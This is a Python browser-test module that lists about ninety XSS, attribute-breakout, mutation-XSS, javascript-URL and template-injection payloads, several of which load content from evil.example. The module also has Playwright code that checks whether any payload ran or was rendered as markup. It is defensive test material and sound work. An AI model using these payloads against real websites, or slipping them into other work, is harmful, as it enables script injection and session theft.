"""Texts that would run where a page took them for markup, script, address or template; and whether one has."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from playwright.async_api import BrowserContext, Dialog, Page

from tests.browser.conftest import WATCH_POLICY, Watch

PAYLOADS = (
    # elements that run by themselves
    "<script>canary(1)</script>",
    "<ScRiPt data-hostile>canary(2)</sCrIpT >",
    '<script src="https://evil.example/a.js"></script>',
    "<script/src=data:,canary(3)></script>",
    "<scr<script>ipt>canary(4)</scr</script>ipt>",
    "<<script>canary(5)//<</script>",
    "<img data-hostile src=x onerror=canary(6)>",
    '<img src="https://evil.example/pixel.gif">',
    "<img src=x:x onerror\n=\ncanary(7)",
    "<image/src/onerror=canary(8)>",
    "<svg data-hostile onload=canary(9)>",
    "<svg><script>canary&#40;10&#41;</script>",
    "<svg><animate onbegin=canary(11) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>canary(12)</script></svg>#x'>",
    '<math><mi xlink:href="javascript:canary(13)">x',
    "<body onload=canary(14)>",
    "<body onpageshow=canary(15)>",
    "<video data-hostile><source onerror=canary(16)>",
    "<audio src=x onerror=canary(17)>",
    "<details open ontoggle=canary(18)>",
    "<input data-hostile autofocus onfocus=canary(19)>",
    "<select autofocus onfocus=canary(20)>",
    "<marquee onstart=canary(21)>",
    "<style>@keyframes k{}*{animation:k}</style><b style=animation-name:k onanimationstart=canary(22)>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<link rel=stylesheet href=https://evil.example/b.css>",
    "<iframe srcdoc='<script>parent.canary(23)</script>'></iframe>",
    "<iframe src=javascript:parent.canary(24)></iframe>",
    "<object data='data:text/html,<script>parent.canary(25)</script>'></object>",
    "<embed src=javascript:canary(26)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form data-hostile action=javascript:canary(27)><input type=submit autofocus>",
    "<button formaction=javascript:canary(28)>Send</button>",
    "<template shadowrootmode=open><img src=x onerror=canary(29)></template>",
    "<dialog data-hostile open onbeforetoggle=canary(30)>",
    "<xss-element data-hostile onfocus=canary(31) tabindex=1 autofocus>",
    # ways out of where a text stands
    '"><img src=x onerror=canary(32)>',
    "'><img src=x onerror=canary(33)>",
    '" autofocus onfocus="canary(34)" x="',
    "' autofocus onfocus='canary(35)' x='",
    "x onmouseover=canary(36) style=position:fixed;inset:0",
    "</textarea><script>canary(37)</script>",
    "</title><script>canary(38)</script>",
    "</style><script>canary(39)</script>",
    "</script><script>canary(40)</script>",
    "</option></select><img src=x onerror=canary(41)>",
    "--><script>canary(42)</script><!--",
    "]]><script>canary(43)</script>",
    "';canary(44)//",
    '"}]};canary(45);//',
    "`${canary(46)}`",
    "\\u003cscript\\u003ecanary(47)\\u003c/script\\u003e",
    "\\'-canary(48)//",
    # markup that changes when it is read twice
    "&lt;img src=x onerror=canary(49)&gt;",
    "&amp;lt;script&amp;gt;canary(50)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ecanary(51)%3C/script%3E",
    "+ADw-script+AD4-canary(52)+ADw-/script+AD4-",
    "＜script＞canary(53)＜/script＞",
    '<noscript><p title="</noscript><img src=x onerror=canary(54)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary(55)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=canary(56)>'>",
    "<a id=canary name=fetch><a id=canary href=x>",
    # addresses
    "javascript:canary(57)",
    "JaVaScRiPt&colon;canary(58)",
    "java\tscript:canary(59)",
    "data:text/html,<script>canary(60)</script>",
    "vbscript:canary(61)",
    "https://example.org/\"onmouseover=\"canary(62)",
    "https://example.org/'onfocus='canary(63)'autofocus='",
    "https://example.org/<script>canary(64)</script>",
    "[read](javascript:canary(65))",
    '![x](x"onerror="canary(66))',
    "- <img src=x onerror=canary(67)>",
    # templates, sheets, engines
    "{{ 7 * 191 }}",
    "{% for x in [7 * 191] %}{{ x }}{% endfor %}",
    "#{7*191} ${7*191} <%= 7*191 %>",
    "{{ self.__init__.__globals__ }}",
    "=HYPERLINK(\"https://evil.example/\",7*191)",
    "{what_happened} %(what_happened)s",
)  # fmt: skip
ALL = "\n".join(PAYLOADS)
SHOWN = "<img data-hostile src=x onerror=canary(6)>"
"""One of them, short, for names and the like; where it is shown, it is shown letter for letter."""
EVALUATED = "1337"
"""What 7 * 191 comes to."""

LOOK = """() => {
  const found = [], roots = [document], script = /^\\s*(javascript|vbscript|data):/i;
  const fields = [...document.querySelectorAll("input, textarea")].map((box) => box.value);
  for (const root of roots) {
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) roots.push(element.shadowRoot);
      const runs = [...element.attributes].some(({ name, value }) =>
        /^on/i.test(name) || name === "srcdoc" ||
        (/^(href|xlink:href|src|action|formaction|data)$/i.test(name) && script.test(value)));
      if (runs || "hostile" in element.dataset || element.matches("[src*='evil.'], link[href*='evil.'], base, object"))
        found.push(element.outerHTML.slice(0, 200));
    }
  }
  return { found, text: document.documentElement.textContent + fields.join("\\n") };
}"""


@dataclass
class Trap:
    """Sees whether anything of the corpus ran or became part of a page."""

    watch: Watch
    ran: list[Any] = field(default_factory=list)
    seen: list[str] = field(default_factory=list)
    """The pages that were looked at."""

    async def lay(self, context: BrowserContext) -> None:
        """In every page and frame of the context, from its first script on."""

        async def dismiss(dialog: Dialog) -> None:
            self.ran.append(dialog.message)
            await dialog.dismiss()

        async def canary(number: object = None) -> None:
            self.ran.append(number)

        await context.expose_function("canary", canary)
        context.on("dialog", dismiss)

    async def follow(self, context: BrowserContext) -> None:
        """The same for a further context, whose pages are watched as those of the first one are."""
        await context.add_init_script(WATCH_POLICY)
        context.on("page", self.watch.follow)
        await self.lay(context)

    async def look(self, page: Page, name: str, *, shows: str | None = SHOWN) -> None:
        """Every frame of the page as it stands: `shows` is there as text, and no element, handler or address of it."""
        texts = []
        for frame in page.frames:
            there = await frame.evaluate(LOOK)
            assert not there["found"], f"{name} took a text for markup: {there['found']}"
            texts.append(there["text"])
        everything = "\n".join(texts)
        assert shows is None or shows in everything, f"{name} does not show the text at all"
        assert EVALUATED not in everything, f"{name} worked a template out"
        assert not self.ran, f"{name} ran {self.ran}"
        self.seen.append(name)
